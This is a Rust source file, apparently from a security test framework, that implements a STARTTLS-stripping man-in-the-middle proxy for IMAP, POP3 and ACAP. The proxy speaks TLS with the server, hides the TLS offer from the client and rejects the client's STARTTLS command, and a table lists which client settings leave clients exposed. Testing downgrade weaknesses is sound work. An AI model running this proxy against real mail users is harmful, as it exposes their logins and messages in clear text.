//! Speaks TLS with the server and clear text with the client.

use super::{Attack, Deciding, Group, Message, Moves, Tamper};
use crate::base::{Layer, Protocol, Side};
use crate::harm::success;
use crate::proto::{Answer, Dialect};

static DECIDING: &[Deciding] = &[
    Deciding {
        protocols: &[Protocol::Imap, Protocol::Pop3],
        given: &[],
        right: &[],
        wrong: &["client.tls=opportunistic"],
    },
    Deciding {
        protocols: &[Protocol::Imap, Protocol::Pop3],
        given: &[],
        right: &[],
        wrong: &["client.forgets-policy=on"],
    },
    Deciding {
        protocols: &[Protocol::Acap],
        given: &[],
        right: &[],
        wrong: &["client.tls=opportunistic", "client.plain-in-clear=on"],
    },
];

/// The attack.
pub static ATTACK: Attack = Attack {
    id: "half-tls-proxy",
    title: "TLS on one side only",
    about: "Asks the server for TLS in the client's place and keeps it to itself: the server's session is in order, and the client never hears of TLS.",
    group: Group::Negotiation,
    known: &["the tool striptls"],
    protocols: &Protocol::ALL,
    switches: &[],
    build: |_, dialect| Box::new(Proxy { dialect, stage: Stage::Greeting, greeting: Vec::new() }),
    success: &success::LOST,
    deciding: DECIDING,
};

/// The tag of the one command of its own.
const TAG: &str = "m1";

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Stage {
    /// The server has not greeted.
    Greeting,
    /// The server was asked for TLS.
    Asked,
    /// The server's side is up; in ACAP it greets again.
    Secure,
    /// Both sides talk.
    Relaying,
}

#[derive(Debug)]
struct Proxy {
    dialect: &'static Dialect,
    stage: Stage,
    /// What the server said first.
    greeting: Vec<u8>,
}

impl Proxy {
    /// A list without the offer; the server does not make one inside TLS, but its greeting did.
    fn without_offer(&self, octets: &[u8]) -> Vec<u8> {
        let hidden = |word: &str| self.dialect.starttls_words.contains(&word) || word == "LOGINDISABLED";
        (self.dialect.without_capabilities)(octets, &hidden).unwrap_or_else(|| octets.to_vec())
    }

    fn hear_server(&mut self, message: Message<'_>, moves: &mut Moves) {
        let ok = [TAG.as_bytes(), b" OK"].concat();
        match self.stage {
            Stage::Greeting => {
                self.greeting = message.octets.to_vec();
                self.stage = Stage::Asked;
                moves.send(Side::Server, self.dialect.starttls(TAG));
            }
            Stage::Asked if message.octets.starts_with(&ok) || message.octets.starts_with(b"+OK") => {
                moves.tls(Side::Server);
            }
            // No TLS here either: then there is nothing to keep from the client.
            Stage::Asked => {
                self.stage = Stage::Relaying;
                moves.release(self.greeting.clone());
            }
            Stage::Secure | Stage::Relaying => {
                self.stage = Stage::Relaying;
                let octets = self.without_offer(message.octets);
                if octets == message.octets { moves.pass() } else { moves.replace(octets) }
            }
        }
    }
}

impl Tamper for Proxy {
    fn message(&mut self, message: Message<'_>, moves: &mut Moves) {
        if message.from == Side::Server {
            self.hear_server(message, moves);
            return;
        }
        match self.dialect.starttls_tag(message.octets).filter(|_| message.layer == Layer::Clear) {
            Some(tag) => {
                moves.answer((self.dialect.answer)(&tag, Answer::Bad, "this command is not known here"))
            }
            None => moves.pass(),
        }
    }

    fn secured(&mut self, with: Side, moves: &mut Moves) {
        if with == Side::Server && self.stage == Stage::Asked {
            self.stage = Stage::Secure;
            if self.dialect.protocol != Protocol::Acap {
                self.stage = Stage::Relaying;
                let greeting = self.without_offer(&self.greeting);
                moves.send(Side::Client, greeting);
            }
        }
    }

    fn connected(&mut self) {
        (self.stage, self.greeting) = (Stage::Greeting, Vec::new());
    }
}
